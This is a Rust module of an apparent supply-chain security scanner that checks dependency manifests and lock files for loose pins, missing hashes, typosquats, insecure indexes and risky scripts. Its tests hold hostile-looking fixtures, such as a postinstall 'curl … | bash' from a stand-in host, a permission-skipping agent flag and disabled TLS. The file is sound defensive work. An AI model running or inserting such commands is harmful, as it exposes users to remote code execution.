//! The reader of manifests and lock files: [`DependencyManifest`].

use super::names::{Likeness, likeness};
use super::rules::{TYPOSQUAT_PACKAGE, UNHASHED_PACKAGE};
use super::{Dependencies, Dependency, Ecosystem, Pin, Purpose, included, read};
use crate::issue::report;
use crate::pin::{Pinning, Repository};
use crate::rules::{DEPENDENCY_CONFUSION, INSECURE_TRANSPORT, TLS_DISABLED, UNPINNED_PACKAGE};
use crate::{Issue, Notes, Reader, Text};
use bartizan_core::{Confidence, Kind, Rule, Severity, printable};

/// Requirements, project files and lock files of Python, JavaScript and Rust, and conda environments.
pub struct DependencyManifest;

impl Reader for DependencyManifest {
    fn id(&self) -> &'static str {
        "dependencies"
    }

    fn kind(&self) -> Kind {
        Kind::Config
    }

    fn rules(&self) -> &'static [&'static Rule] {
        RULES
    }

    fn recognises(&self, text: &Text<'_>) -> bool {
        super::read::is_manifest(text)
    }

    fn read(&self, text: &Text<'_>, notes: &mut Notes<'_>) {
        let Some(found) = read(text) else { return };
        for (offset, reason) in &found.stops {
            notes.gap(*offset, format!("dependencies not read from here on: {reason}; mend the syntax"));
        }
        report(text, notes, found.issues.iter().cloned());
        let lenient = is_for_development(text.name)
            || found.dependencies.len() > 1
                && text
                    .content
                    .lines()
                    .any(|line| line.starts_with("-c ") || line.starts_with("--constraint"));
        let locked = found.dependencies.iter().any(is_loose_of_npm) && is_locked(text);
        // What is installed is installed no further from its own manifest.
        let installed = format!("/{}", text.name.replace('\\', "/")).contains("/node_modules/");
        for dependency in &found.dependencies {
            let kept = if locked { keeping(dependency) } else { None };
            let issue = kept.or_else(|| pinning(dependency, found.purpose, lenient)).map(|issue| {
                let issue = match commit_pin(text, dependency) {
                    Some(pin) => issue.pinned(pin),
                    None => issue,
                };
                let idle = installed && is_loose_of_npm(dependency);
                if idle { issue.severity(Severity::Info) } else { issue }
            });
            report(text, notes, issue);
            report(text, notes, unencrypted(text, dependency, &found));
            report(text, notes, name(dependency));
        }
        report(text, notes, hashes(&found));
        report(text, notes, included::issues(text, &found));
    }
}

/// What is wrong with one dependency of a file for `purpose`: how far it is tied down, and its name.
pub(crate) fn judged(dependency: &Dependency, purpose: Purpose) -> Vec<Issue> {
    pinning(dependency, purpose, false).into_iter().chain(name(dependency)).collect()
}

/// Whether a package of npm is asked for without a version, or from a branch: each install without a lock file takes the newest.
fn is_loose_of_npm(dependency: &Dependency) -> bool {
    dependency.ecosystem == Ecosystem::Npm && matches!(dependency.pin, Pin::None | Pin::Moving)
}

/// What is wrong with a loose package of npm beside a lock file.
fn keeping(dependency: &Dependency) -> Option<Issue> {
    let named = printable(&dependency.name, 80);
    let message =
        format!("`{named}` has no version: only the lock file beside it holds one, until it is written anew");
    is_loose_of_npm(dependency).then(|| {
        let issue = Issue::new(&UNPINNED_PACKAGE, dependency.span.clone(), message);
        issue.severity(Severity::Low).remedy(OF_NPM)
    })
}

/// Whether a lock file lies beside the manifest, or in a folder around it whose workspace it may be part of.
fn is_locked(text: &Text<'_>) -> bool {
    let Some((path, root)) = text.place else { return false };
    let around = path.ancestors().skip(1).take_while(|folder| folder.starts_with(root)).take(FOLDERS);
    around.into_iter().any(|folder| LOCKS.iter().any(|lock| folder.join(lock).is_file()))
}

/// Lock files of npm, Yarn, pnpm and Bun.
const LOCKS: &[&str] =
    &["package-lock.json", "npm-shrinkwrap.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock", "bun.lockb"];
/// Most folders in which a lock file is looked for.
const FOLDERS: usize = 8;
/// What to do about a loose package of npm.
const OF_NPM: &str =
    "Write a version (`npm install --save-exact`), and install from the lock file (`npm ci`).";

/// What is wrong with how far `dependency` is tied down.
fn pinning(dependency: &Dependency, purpose: Purpose, lenient: bool) -> Option<Issue> {
    let named = printable(&dependency.name, 80);
    // An address alone has no name to show.
    let shown = if named.is_empty() { "a package".to_owned() } else { format!("`{named}`") };
    let (severity, message) = match (&dependency.pin, purpose) {
        (Pin::Moving, Purpose::Lock) | (Pin::Exact(_) | Pin::Commit | Pin::Local | Pin::Address(true), _) => {
            return None;
        }
        (Pin::Moving, _) => (
            Severity::Medium,
            format!("{shown} comes from a repository without a commit: whatever stands there at that moment"),
        ),
        (Pin::Address(false), Purpose::Lock) => return None,
        (Pin::Address(false), _) => {
            // What stands there is installed, and nobody can tell whether it is what stood there yesterday.
            let severity = if lenient { Severity::Low } else { Severity::Medium };
            (severity, format!("{shown} comes from an address without a digest"))
        }
        (Pin::None, Purpose::Deployment) if lenient => (Severity::Low, format!("{shown} has no version")),
        (Pin::None, Purpose::Deployment) => {
            (Severity::Medium, format!("{shown} has no version: each install takes the newest"))
        }
        // What an application of npm is installed from, unlike the ranges of a library.
        (Pin::None, Purpose::Manifest) if dependency.ecosystem == Ecosystem::Npm => {
            (Severity::Medium, format!("{shown} has no version: each install takes the newest"))
        }
        (Pin::None, Purpose::Manifest) => (Severity::Info, format!("{shown} allows every version")),
        (Pin::Range(range), Purpose::Deployment) if is_open(range) => {
            let severity = if lenient { Severity::Low } else { Severity::Medium };
            let range = printable(range, 60);
            (severity, format!("{shown} allows every later version ({range}): each install takes the newest"))
        }
        (Pin::Range(range), Purpose::Deployment) => {
            (Severity::Low, format!("{shown} allows a range of versions ({})", printable(range, 60)))
        }
        (Pin::Range(range), Purpose::Manifest) if is_open(range) => {
            (Severity::Info, format!("{shown} allows every later version ({})", printable(range, 60)))
        }
        (Pin::Range(_) | Pin::None, _) => return None,
    };
    let remedy = match dependency.pin {
        Pin::Moving => "Name the full commit id behind the address.".to_owned(),
        _ if is_loose_of_npm(dependency) => OF_NPM.to_owned(),
        Pin::Address(_) => "Add the digest: `#sha256=<digest>`, or `--hash=sha256:<digest>`.".to_owned(),
        _ => format!("Pin it: `{named}==<version>`, with its hash from `uv pip compile --generate-hashes`."),
    };
    Some(Issue::new(&UNPINNED_PACKAGE, dependency.span.clone(), message).severity(severity).remedy(remedy))
}

/// A dependency taken from an address without encryption, unless its reader said so.
fn unencrypted(text: &Text<'_>, dependency: &Dependency, found: &Dependencies) -> Option<Issue> {
    if !matches!(dependency.pin, Pin::Address(_) | Pin::Moving | Pin::Commit) {
        return None;
    }
    let written = text.content.get(dependency.span.clone())?;
    let clear = crate::address::clear(written)?;
    let line = |at: usize| text.line_column(at).0;
    let told = found.issues.iter().any(|issue| {
        issue.rule.id == INSECURE_TRANSPORT.id && line(issue.span.start) == line(dependency.span.start)
    });
    let message = format!("{} is fetched without encryption", printable(clear.address, 80));
    (!told).then(|| clear.source_issue(dependency.span.clone(), message))
}

/// How a requirement from a git repository is pinned: `git+https://host/path.git[@revision][#fragment]`.
///
/// Source: pip documentation, "VCS Support".
pub(super) fn commit_pin(text: &Text<'_>, dependency: &Dependency) -> Option<Pinning> {
    let part = text.content.get(dependency.span.clone()).filter(|_| dependency.pin == Pin::Moving)?;
    let written = part.get(part.find("git+http")?..)?.strip_prefix("git+")?;
    let end = written.find(|c: char| c.is_whitespace() || matches!(c, '#' | '"' | '\'' | ',' | ';'));
    let address = written.get(..end.unwrap_or(written.len()))?;
    if crate::address::is_filled_in(address) || address.contains('?') {
        return None;
    }
    let (path, last) = address.rsplit_once('/')?;
    Some(match last.split_once('@') {
        Some((name, revision)) => Pinning::commit(Repository::At(format!("{path}/{name}")), revision),
        None => Pinning::default_branch(Repository::At(address.to_owned()), address),
    })
}

/// Whether a range of versions has no end: `>=1.0`, `!=2.1`.
fn is_open(range: &str) -> bool {
    let mut parts = range.split(',').map(str::trim).filter(|part| !part.is_empty()).peekable();
    parts.peek().is_some()
        && parts.all(|part| part.starts_with(">=") || part.starts_with('>') || part.starts_with("!="))
}

/// What is wrong with its name.
fn name(dependency: &Dependency) -> Option<Issue> {
    let (confidence, severity, message, meant) = match likeness(dependency.ecosystem, &dependency.name)? {
        Likeness::Slip(meant) => (
            Confidence::Medium,
            Severity::High,
            format!("`{}` is one slip from `{meant}`, which many use", printable(&dependency.name, 80)),
            meant,
        ),
        Likeness::Misnomer(meant) => (
            Confidence::Medium,
            Severity::Medium,
            format!(
                "`{}` is not the name of the package that is called `{meant}`",
                printable(&dependency.name, 80)
            ),
            meant.to_owned(),
        ),
    };
    Some(
        Issue::new(&TYPOSQUAT_PACKAGE, dependency.span.clone(), message)
            .severity(severity)
            .confidence(confidence)
            .remedy(format!("Check who publishes it; if `{meant}` was meant, write that.")),
    )
}

/// One note for the first pinned dependency without a digest.
fn hashes(found: &Dependencies) -> Option<Issue> {
    let bare = |dependency: &&Dependency| matches!(dependency.pin, Pin::Exact(_)) && !dependency.hashed;
    let first = found.dependencies.iter().find(bare)?;
    let count = found.dependencies.iter().filter(bare).count();
    if found.purpose == Purpose::Manifest {
        return None;
    }
    let some_hashed = found.dependencies.iter().any(|dependency| dependency.hashed);
    let severity = if some_hashed { Severity::Low } else { Severity::Info };
    let message = format!("{count} of {} packages are pinned without a digest", found.dependencies.len());
    Some(Issue::new(&UNHASHED_PACKAGE, first.span.clone(), message).severity(severity))
}

/// Whether the file is for developing, testing or documenting, and not for what is deployed.
fn is_for_development(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let file = name.rsplit('/').next().unwrap_or(&name);
    ["dev", "test", "doc", "lint", "build", "example", "constraints", "typing", "ci"]
        .iter()
        .any(|part| file.contains(part))
}

static RULES: &[&Rule] = &[
    &UNPINNED_PACKAGE,
    &UNHASHED_PACKAGE,
    &TYPOSQUAT_PACKAGE,
    &DEPENDENCY_CONFUSION,
    &INSECURE_TRANSPORT,
    &TLS_DISABLED,
    &crate::rules::CURL_PIPE_SHELL,
    &crate::rules::REMOTE_CODE,
    &crate::rules::RISKY_TOOL_GRANT,
    &crate::rules::HOOKS_SKIPPED,
    &crate::rules::SECRET,
    &crate::rules::NO_AUTHENTICATION,
    &super::rules::KNOWN_VULNERABLE_PACKAGE,
    &super::rules::VULNERABILITIES_NOT_CHECKED,
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::found;

    #[test]
    fn requirements_are_graded_by_how_far_they_are_tied_down() {
        assert_eq!(
            found("requirements.txt", "scipy>=1.0,<2\n"),
            [("pipeline/unpinned-package", 1, Severity::Low)]
        );
        let text = "numpy\nscipy>=1.0\npandas==2.2.0\ngit+https://github.com/a/b@main\n";
        assert_eq!(
            found("requirements.txt", text),
            [
                ("pipeline/unhashed-package", 3, Severity::Info),
                ("pipeline/unpinned-package", 1, Severity::Medium),
                ("pipeline/unpinned-package", 2, Severity::Medium),
                ("pipeline/unpinned-package", 4, Severity::Medium),
            ]
        );
    }

    #[test]
    fn indices_are_judged() {
        let text = "--index-url http://pypi.example/simple\n--trusted-host pypi.example\n--extra-index-url https://x.example/simple\n";
        assert_eq!(
            found("requirements.txt", text),
            [
                ("pipeline/dependency-confusion", 3, Severity::Medium),
                ("pipeline/insecure-transport", 1, Severity::Medium),
                ("pipeline/tls-disabled", 2, bartizan_core::Severity::Medium.max(TLS_DISABLED.severity)),
            ]
        );
    }

    #[test]
    fn ranges_of_a_library_are_normal_and_a_slip_in_a_name_is_not() {
        assert_eq!(
            found("pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\n  \"numpy>=1,<2\",\n]\n"),
            []
        );
        assert_eq!(
            found("pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\n  \"numpy>=1\",\n]\n"),
            [("pipeline/unpinned-package", 4, Severity::Info)]
        );
        assert_eq!(
            found("pyproject.toml", "[project]\ndependencies = [\n  \"reqeusts>=1\",\n]\n"),
            [
                ("pipeline/typosquat-package", 3, Severity::High),
                ("pipeline/unpinned-package", 3, Severity::Info)
            ]
        );
    }

    #[test]
    fn settings_of_package_managers_are_judged() {
        let uv = "[project]\nname = \"a\"\n[tool.uv]\nallow-insecure-host = [\"pypi.example\"]\nindex-strategy = \"unsafe-best-match\"\n";
        assert_eq!(
            found("pyproject.toml", uv),
            [
                ("pipeline/dependency-confusion", 5, Severity::Medium),
                ("pipeline/tls-disabled", 4, Severity::High)
            ]
        );
        assert_eq!(
            found(
                "uv.toml",
                "index-strategy = \"first-index\"\nextra-index-url = [\"https://x.example/simple\"]\n"
            ),
            [("pipeline/dependency-confusion", 2, Severity::Medium)]
        );
        let pip = "[global]\nindex-url = http://pypi.example/simple\ntrusted-host = pypi.example\nextra-index-url =\n    https://x.example/simple\ntimeout = 60\n";
        assert_eq!(
            found("pip.conf", pip),
            [
                ("pipeline/dependency-confusion", 5, Severity::Medium),
                ("pipeline/insecure-transport", 2, Severity::Medium),
                ("pipeline/tls-disabled", 3, Severity::High)
            ]
        );
        assert_eq!(found("pip.conf", "[global]\nindex-url = https://pypi.example/simple\n"), []);
    }

    #[test]
    fn environments_of_pixi_are_judged() {
        let text = "[project]\nname = \"a\"\n[dependencies]\npython = \"3.12.*\"\nnumpy = \"*\"\nscipy = \"==1.13.0\"\n[pypi-dependencies]\ntorch = \">=2\"\nsam = { git = \"https://git.example/sam\" }\nb = { git = \"https://git.example/b\", rev = \"0123456789abcdef0123456789abcdef01234567\" }\n";
        assert_eq!(
            found("pixi.toml", text),
            [
                ("pipeline/unpinned-package", 5, Severity::Medium),
                ("pipeline/unpinned-package", 8, Severity::Medium),
                ("pipeline/unpinned-package", 9, Severity::Medium)
            ]
        );
    }

    #[test]
    fn repositories_asked_without_encryption_are_found() {
        let lines = "-e git+http://git.example/a@0123456789abcdef0123456789abcdef01234567#egg=a\n";
        assert_eq!(found("requirements.txt", lines), [("pipeline/insecure-transport", 1, Severity::Medium)]);
    }

    #[test]
    fn packages_from_addresses_without_encryption_are_found_in_every_manifest() {
        let clear = |found: Vec<(&'static str, u32, Severity)>| -> Vec<u32> {
            found
                .into_iter()
                .filter(|(rule, ..)| *rule == INSECURE_TRANSPORT.id)
                .map(|(_, line, _)| line)
                .collect()
        };
        let project = |scheme: &str| {
            format!(
                "[project]\nname = \"a\"\ndependencies = [\n  \"w @ {scheme}://f.example/w-1.0.tar.gz\",\n]\n"
            )
        };
        assert_eq!(clear(found("pyproject.toml", &project("http"))), [4]);
        assert_eq!(clear(found("pyproject.toml", &project("https"))), [0u32; 0]);
        let package = |scheme: &str| {
            format!("{{\n\"dependencies\": {{\n\"w\": \"{scheme}://f.example/w.tgz\"\n}}\n}}\n")
        };
        assert_eq!(clear(found("package.json", &package("http"))), [3]);
        assert_eq!(clear(found("package.json", &package("https"))), [0u32; 0]);
        assert_eq!(clear(found("requirements.txt", "w @ http://f.example/w-1.0.tar.gz\n")), [1]);
    }

    #[test]
    fn scripts_of_a_package_are_read_as_commands() {
        let package = |script: &str| format!("{{\n\"scripts\": {{\n\"agent\": \"{script}\"}}}}\n");
        let ids = |script: &str| -> Vec<&'static str> {
            found("package.json", &package(script)).into_iter().map(|(rule, ..)| rule).collect()
        };
        assert_eq!(ids("NODE_TLS_REJECT_UNAUTHORIZED=0 node agent.js"), [TLS_DISABLED.id]);
        assert_eq!(ids("vllm serve acme/net --trust-remote-code"), ["pipeline/remote-code"]);
        assert_eq!(ids("claude -p x --dangerously-skip-permissions"), ["pipeline/risky-tool-grant"]);
        assert_eq!(ids("tsc && node dist/agent.js"), [""; 0]);
    }

    #[test]
    fn what_runs_at_installation_is_judged() {
        let package = |script: &str| format!("{{\n\"scripts\": {{\n\"postinstall\": \"{script}\"}}}}\n");
        let piped = found("package.json", &package("curl -s https://x.example/p.sh | bash"));
        assert_eq!(piped, [("pipeline/curl-pipe-shell", 3, Severity::High)]);
        assert_eq!(found("package.json", &package("node build.js")), []);
    }

    #[test]
    fn packages_asked_for_by_setup_are_judged() {
        let setup = |package: &str| {
            let content = format!(
                "from setuptools import setup\nsetup(name='a', install_requires=[\n  '{package}',\n])\n"
            );
            found("setup.py", &content)
        };
        assert_eq!(
            setup("a @ git+https://git.example/a@main"),
            [("pipeline/unpinned-package", 3, Severity::Medium)]
        );
        assert_eq!(setup("numpy>=1.26,<2"), []);
        assert_eq!(setup("numpy>=1.26"), [("pipeline/unpinned-package", 3, Severity::Info)]);
    }

    #[test]
    fn packages_of_npm_without_a_version_are_graded_by_whether_a_lock_file_holds_one() {
        use bartizan_core::{Limits, MonotonicClock};
        let content = "{\n\"dependencies\": {\n\"a-b\": \"latest\",\n\"c-d\": \"*\",\n\"e-f\": \"github:x/y#main\",\n\"g-h\": \"^1.2.0\"\n}\n}\n";
        let root = tempfile::tempdir().unwrap();
        let folder = root.path().join("app");
        std::fs::create_dir(&folder).unwrap();
        let path = folder.join("package.json");
        let graded = || {
            let text = Text::new("app/package.json", content).at(Some((&path, root.path())));
            let found = crate::examine(&text, &Limits::default(), &MonotonicClock::start()).findings;
            let mut lines: Vec<_> = found
                .iter()
                .filter(|one| one.rule.id == UNPINNED_PACKAGE.id)
                .map(|one| (one.location.line.unwrap_or_default(), one.severity))
                .collect();
            lines.sort_unstable();
            lines
        };
        assert_eq!(graded(), [(3, Severity::Medium), (4, Severity::Medium), (5, Severity::Medium)]);
        std::fs::write(root.path().join("pnpm-lock.yaml"), "lockfileVersion: 9\n").unwrap();
        assert_eq!(graded(), [(3, Severity::Low), (4, Severity::Low), (5, Severity::Low)]);
    }

    #[test]
    fn the_manifest_of_an_installed_package_is_a_remark() {
        let content = "{\n\"devDependencies\": {\n\"a-b\": \"*\"\n}\n}\n";
        for (name, severity) in [
            ("node_modules/x/package.json", Severity::Info),
            ("/usr/lib/node_modules/npm/node_modules/x/package.json", Severity::Info),
            ("app/package.json", Severity::Medium),
        ] {
            assert_eq!(found(name, content), [("pipeline/unpinned-package", 3, severity)], "{name}");
        }
    }

    #[test]
    fn a_hashed_requirement_is_fine() {
        assert_eq!(found("requirements.txt", "numpy==1.26.4 \\\n  --hash=sha256:00\n"), []);
    }
}
